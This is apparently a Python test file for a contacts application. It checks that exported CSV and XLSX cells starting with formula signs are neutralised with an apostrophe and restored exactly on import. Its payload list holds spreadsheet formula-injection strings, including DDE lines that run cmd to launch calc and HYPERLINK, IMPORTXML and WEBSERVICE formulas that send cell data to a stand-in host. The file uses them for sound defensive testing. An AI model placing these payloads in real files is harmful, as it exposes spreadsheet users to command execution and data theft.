"""Formulas in cells: marked on the way out, exact on the way back, and nothing that is none is touched."""

import csv
import io

import pyarrow as pa
import pytest
from hypothesis import given
from hypothesis import strategies as st
from python_calamine import CalamineWorkbook

from cast import Person
from contactory.engine.formulas import defused, undefused
from contactory.exports.csv_file import CsvWriter
from exports.making import content, exported, records_of
from imports.pipeline import imported

SIGNS = ["=", "+", "-", "@", "＝", "＋", "－", "＠", "﹦", "﹢", "﹣", "﹫"]
BEFORE = ["", " ", "   ", "\t", "\r", "\n", "\u00a0", "\u200b", "\ufeff", "\u3000", ";", ",", "|", '"', "'"]
PAYLOADS = [
    "=1+1",
    "=SUM(A1:A9)",
    "=cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"!A0")',
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    '=IMPORTXML(CONCAT("http://evil.example/?v=",A1),"//a")',
    '=WEBSERVICE("http://evil.example/"&A1)',
    "+1+1",
    "+cmd|' /C calc'!A0",
    "+SUM(1)",
    "-1+1",
    "-cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "@A1",
    "@cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\tx",
    "\rx",
    " =1+1",
    "  +1+1",
    " \t@A1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u3000=1+1",
    "\u2060-1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠A1",
    " ＝1+1",
    "﹦1+1",
    ";=1+1",
    ",=1+1",
    "|=1+1",
    "; =1+1",
    ';"=1+1',
    '"=1+1"',
    '","=1+1',
    "'=1+1",
    "''=1+1",
    "'+49 151 234",
    "' =1+1",
    "';=1+1",
    "=",
    "+",
    "-",
    "@",
    "--1",
    "-+1",
    "=-1",
    "-1-1",
    "+1 (555) 0199",
    "+49 151 12345",
    "-12.5%",
    "+1e9",
    "@ana",
    "=\n1",
    "=😀",
]
HARMLESS = [
    "",
    "Ana",
    "a=b",
    "1-1",
    "ana@a.com",
    "+4915112345",
    "+15125559548",
    "-12.5",
    "-12",
    "+3,5",
    "'Quoted'",
    "O'Neil",
    "O'-Neil",
    "'",
    "''",
    " Ana",
    "; Ana",
    "#N/A",
    "1/2",
    "Müller-Lüdenscheidt",
    "日本",
    "…",
]


def marked(text: str) -> str:
    """The text as it goes out."""
    return str(defused(pa.array([text]))[0].as_py())


def test_there_are_sixty_payloads() -> None:
    assert len(set(PAYLOADS)) >= 60


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_payload_gets_one_apostrophe_and_loses_it_again(payload: str) -> None:
    assert marked(payload) == f"'{payload}"
    assert undefused(pa.array([f"'{payload}"])).to_pylist() == [payload]


@pytest.mark.parametrize("text", HARMLESS)
def test_what_is_no_formula_is_left_alone_both_ways(text: str) -> None:
    assert marked(text) == text
    assert undefused(pa.array([text])).to_pylist() == [text]


def test_every_sign_is_found_behind_all_that_may_stand_before_it() -> None:
    for sign in SIGNS:
        for before in BEFORE:
            assert marked(f"{before}{sign}x1").startswith("'"), (before, sign)


parts = st.sampled_from([*SIGNS, *BEFORE, "1", "12.5", "ana", "é", "日", "\x00", "\u2028"])
texts = st.lists(parts, max_size=6).map("".join) | st.text(max_size=20)


@given(st.lists(texts, max_size=8))
def test_marking_and_unmarking_gives_back_what_was_there(values: list[str]) -> None:
    column = pa.array(values, pa.string())
    sent = defused(column)
    assert undefused(sent).to_pylist() == values
    for text in sent.to_pylist():
        assert not text[:1] or text[0] not in "=@\t\r＝＋－＠"


@given(st.lists(texts, min_size=1, max_size=8), st.integers(0, 3))
def test_a_slice_of_a_column_is_marked_as_the_column_is(values: list[str], start: int) -> None:
    column = pa.array(values, pa.string())
    assert defused(column.slice(start)).to_pylist() == defused(column).to_pylist()[start:]


@given(st.lists(st.tuples(texts, texts, texts), max_size=6))
def test_any_texts_come_back_from_a_csv(rows: list[tuple[str, str, str]]) -> None:
    sink = io.BytesIO()
    writer = CsvWriter(sink, ["a", "b", "c"])
    columns = [pa.array([row[place] for row in rows], pa.string()) for place in range(3)]
    writer.write(pa.RecordBatch.from_arrays(columns, names=["a", "b", "c"]))
    _, *read = csv.reader(io.StringIO(sink.getvalue().decode(), newline=""))
    back = [undefused(pa.array(column, pa.string())).to_pylist() for column in zip(*read, strict=True)]
    assert list(zip(*back, strict=True)) == rows


@pytest.mark.usefixtures("stored")
@pytest.mark.parametrize("form", ["csv", "xlsx", "parquet"])
def test_payloads_in_headers_and_cells_are_neutral_in_csv_and_xlsx_and_exact_in_parquet(
    alice: Person, form: str
) -> None:
    quoted = [text.replace('"', '""') for text in PAYLOADS]
    rows = [f'p{number}@a.com,Ana,Silva,A,"x{text}","{text}"' for number, text in enumerate(quoted)]
    imported(alice, "\r\n".join(["Email,First name,Last name,Company,Extra,=1+1", *rows]) + "\r\n")
    found = records_of(exported(alice, format=form))
    assert [row["Extra"] for row in found] == [f"x{text}" for text in PAYLOADS]
    # A payload that carries the mark already loses it on its way in.
    taken = undefused(pa.array(PAYLOADS)).to_pylist()
    if form == "parquet":
        assert [row["=1+1"] for row in found] == taken
    else:
        assert [row["'=1+1"] for row in found] == [f"'{text}" for text in taken]


@pytest.mark.usefixtures("stored")
def test_no_cell_of_a_workbook_is_a_formula(alice: Person) -> None:
    imported(alice, 'Email,First name,Last name,Company,Note\na@a.com,=1+1,http://x.example,A,"{=1+1}"\n')
    book = CalamineWorkbook.from_filelike(io.BytesIO(content(exported(alice, format="xlsx"))))
    (name,) = book.sheet_names
    assert "=1+1" not in {cell for row in book.get_sheet_by_name(name).to_python() for cell in row}
    assert b"<f>" not in content(exported(alice, format="xlsx"))
